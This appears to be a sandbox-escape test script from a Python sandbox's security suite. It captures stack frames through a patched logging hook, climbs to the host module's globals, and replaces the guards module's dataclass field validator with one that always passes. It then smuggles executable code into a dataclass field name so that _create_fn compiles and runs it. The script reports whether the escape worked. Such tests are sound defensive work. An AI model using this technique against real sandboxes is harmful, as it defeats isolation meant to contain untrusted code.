# held: 1
# validator OFF. The dataclass trust's last test, fields_ok(), calls _dataclass_fields_ok
# through the guards module's globals at event time. Once a frame reaches the zygote's
# globals (see g1), `guards` is there and the check can be replaced: compile+exec allowed
# for any text at _create_fn's site again (the attack2 field-name injection comes back).
def attack():
    import logging, dataclasses
    frames = []
    logging._is_internal_frame = frames.append
    logging.getLogger("z").warning("frame")
    f = frames[0]
    while "CONFIG" not in f.f_globals:
        f = f.f_back
    guards = f.f_globals["guards"]
    guards._dataclass_fields_ok = lambda *args: True

    ran = []
    PAYLOAD = "a\"\n ran.append('field-name text compiled and run by _create_fn')\n #"
    @dataclasses.dataclass(init=False, eq=False)
    class C:
        """doc"""
        __annotations__ = {PAYLOAD: int}
    print(ran)
try:
    attack()
    print('ESCAPED guards module global: the attack ran to its end')
except BaseException as err:
    print('HELD guards module global', type(err).__name__)
